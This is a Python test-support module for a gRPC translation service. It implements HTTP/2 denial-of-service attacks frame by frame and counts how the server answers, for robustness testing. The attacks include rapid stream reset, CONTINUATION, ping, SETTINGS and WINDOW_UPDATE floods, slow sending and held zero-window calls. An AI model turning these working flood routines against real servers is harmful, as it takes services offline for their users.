"""Attacks over HTTP/2 and gRPC, one function per family: what one client does on one connection.

The functions send frames without regard to the state of the connection, but answer pings and settings. They stay within
the first flow control window, so the server cannot reject them for its size.
"""

from collections import Counter
from collections.abc import Iterator

from hpack import Decoder, Encoder, HPACKError
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from dragoman.protos.translation_pb2 import TranslateRequest
from tests.support.attacks.link import Behavior, Link

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TRANSLATE = "/dragoman.v1.TranslationService/Translate"
TRANSLATE_STREAM = "/dragoman.v1.TranslationService/TranslateStream"
TRANSLATE_MANY = "/dragoman.v1.TranslationService/TranslateMany"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
STREAMS = 20_000
STREAMS_HELD = 100
# Those of a connection are translated at once: few enough for the queue, so that they only wait for the client.
CALLS_UNREAD = 8
BATCH = 100
HELD_SECONDS = 5.0
HEADER_BYTES = 9
MAX_FRAME_BYTES = 16_384
LIST_SERVICES = b"\x3a\x01*"  # ServerReflectionRequest(list_services="*")
TEXT = TranslateRequest(text=["A dog runs."]).SerializeToString()


class Http2Answers:
    """Counts answers of HTTP/2: statuses of gRPC, resets and GOAWAY by error code.

    Replies to settings and pings. `counts` may be shared by connections.
    """

    def __init__(self, counts: Counter[str]) -> None:
        self.received = 0
        self._counts = counts
        self._rest = b""
        self._decoder = Decoder()

    def feed(self, data: bytes) -> bytes:
        """Counts the complete frames and returns acknowledgments."""
        replies = b""
        for frame in self._frames(data):
            if isinstance(frame, HeadersFrame):
                self._count_status(frame.data)
            elif isinstance(frame, RstStreamFrame):
                self._count(f"RST_STREAM {frame.error_code}")
            elif isinstance(frame, GoAwayFrame):
                self._count(f"GOAWAY {frame.error_code}")
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                replies += SettingsFrame(flags=["ACK"]).serialize()
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                replies += PingFrame(opaque_data=frame.opaque_data, flags=["ACK"]).serialize()
        return replies

    def _frames(self, data: bytes) -> Iterator[Frame]:
        data, start = self._rest + data, 0
        while start + HEADER_BYTES <= len(data):
            try:
                frame, length = Frame.parse_frame_header(memoryview(data)[start : start + HEADER_BYTES])
                if start + HEADER_BYTES + length > len(data):
                    break
                start += HEADER_BYTES
                frame.parse_body(memoryview(data)[start : start + length])
            except HyperframeError:  # no HTTP/2
                self._count("invalid frame")
                start = len(data)
                break
            start += length
            yield frame
        self._rest = data[start:]

    def _count(self, answer: str) -> None:
        self.received += 1
        self._counts[answer] += 1

    def _count_status(self, block: bytes) -> None:
        try:
            fields = dict(self._decoder.decode(block, raw=True))
        except HPACKError:
            self._count("invalid header")
            return
        if b"grpc-status" in fields:
            self._count(f"grpc-status {fields[b'grpc-status'].decode()}")
        elif fields.get(b":status", b"200") != b"200":
            self._count(f"status {fields[b':status'].decode()}")


def header_block(path: str) -> bytes:
    """Returns the compressed header of a call. It needs no state of the decoder, so every stream may repeat it."""
    fields = {":path": path, ":authority": "attacker", "content-type": "application/grpc", "te": "trailers"}
    stateless = [(name, value, True) for name, value in fields.items()]
    return Encoder().encode([(":method", "POST"), (":scheme", "http"), *stateless])


def headers(stream_id: int, path: str = TRANSLATE, *, end: bool = False) -> bytes:
    flags = ["END_HEADERS", *(["END_STREAM"] if end else [])]
    return HeadersFrame(stream_id, header_block(path), flags=flags).serialize()


def prefixed(message: bytes) -> bytes:
    return b"\0" + len(message).to_bytes(4, "big") + message


def data(stream_id: int, content: bytes = b"", *, end: bool = False) -> bytes:
    pieces = [content[at : at + MAX_FRAME_BYTES] for at in range(0, len(content), MAX_FRAME_BYTES)] or [b""]
    frames = [DataFrame(stream_id, piece) for piece in pieces]
    if end:
        frames[-1].flags.add("END_STREAM")
    return b"".join(frame.serialize() for frame in frames)


async def begin(link: Link, **settings: int) -> None:
    """Sends the preface of a connection, with settings by their names in `SettingsFrame`."""
    values = {getattr(SettingsFrame, name): value for name, value in settings.items()}
    await link.send(PREFACE + SettingsFrame(settings=values).serialize())


async def _flood(link: Link, frames: bytes) -> None:
    """Repeats frames as fast as the server takes them."""
    while True:
        await link.send(frames)


async def _streams(link: Link, path: str, count: int, message: bytes | None = None) -> None:
    """Opens calls, which stay open for more messages if there is no message."""
    content = b"" if message is None else prefixed(message)
    for first in range(1, 2 * count, 2 * BATCH):
        ids = range(first, min(first + 2 * BATCH, 2 * count), 2)
        frames = (headers(token_id, path) + (data(token_id, content, end=True) if content else b"") for token_id in ids)
        await link.send(b"".join(frames))


async def idle(link: Link) -> None:
    """Opens a connection and makes no call."""
    await begin(link)
    await link.hold()


async def streams_left(link: Link) -> None:
    """Opens many calls and sends nothing more."""
    await begin(link)
    await _streams(link, TRANSLATE, STREAMS)
    await link.pause(HELD_SECONDS)


async def streams_reset(link: Link) -> None:
    """Opens many calls and resets each at once (rapid reset)."""
    await begin(link)
    for first in range(1, 2 * STREAMS, 2 * BATCH):
        ids = range(first, first + 2 * BATCH, 2)
        await link.send(b"".join(headers(token_id) + RstStreamFrame(token_id, 8).serialize() for token_id in ids))
    await link.pause(HELD_SECONDS)


async def continuations(link: Link) -> None:
    """Sends one header without an end. Any other frame, such as a reply, would end the connection."""
    link.replies = False
    await begin(link)
    await link.send(HeadersFrame(1, header_block(TRANSLATE)).serialize())
    await _flood(link, ContinuationFrame(1, Encoder().encode([("a", "b" * 64, True)]) * BATCH).serialize())


def _repeating(frames: bytes, first: bytes = b"") -> Behavior:
    """Sends frames again and again."""

    async def attack(link: Link) -> None:
        await begin(link)
        await link.send(first)
        await _flood(link, frames)

    return attack


pings = _repeating(PingFrame(opaque_data=b"attacker").serialize() * BATCH)
settings = _repeating(
    b"".join(SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: size}).serialize() for size in (1, 2**16))
    * (BATCH // 2)
)
# On one call.
empty_data = _repeating(data(1) * BATCH, headers(1))
windows = _repeating(WindowUpdateFrame(0, window_increment=1).serialize() * BATCH, headers(1))


async def slow_message(link: Link) -> None:
    """Sends a message, one byte per second."""
    await begin(link)
    await link.send(headers(1) + data(1, prefixed(b"a" * 100)[:6]))
    for _ in range(90):
        await link.pause(1.0)
        await link.send(data(1, b"a"))


def _calling(path: str, count: int, message: bytes | None = None, **settings: int) -> Behavior:
    """Opens calls and sends nothing more."""

    async def attack(link: Link) -> None:
        await begin(link, **settings)
        await _streams(link, path, count, message)
        await link.hold()

    return attack


# The server can never send the answers.
closed_window = _calling(TRANSLATE_STREAM, CALLS_UNREAD, TEXT, INITIAL_WINDOW_SIZE=0)
many_idle = _calling(TRANSLATE_MANY, STREAMS_HELD)
watches = _calling(WATCH, STREAMS_HELD, b"")


async def reflections(link: Link) -> None:
    """Asks for the list of services again and again on one stream."""
    await begin(link)
    await link.send(headers(1, REFLECTION))
    await link.send(data(1, prefixed(LIST_SERVICES) * 5_000))
    await link.pause(HELD_SECONDS)


async def calls(link: Link) -> None:
    """Sends invalid calls, each of which is worth a line of the log."""
    await begin(link)
    await _streams(link, TRANSLATE, 10_000, b"")
    await link.pause(HELD_SECONDS)
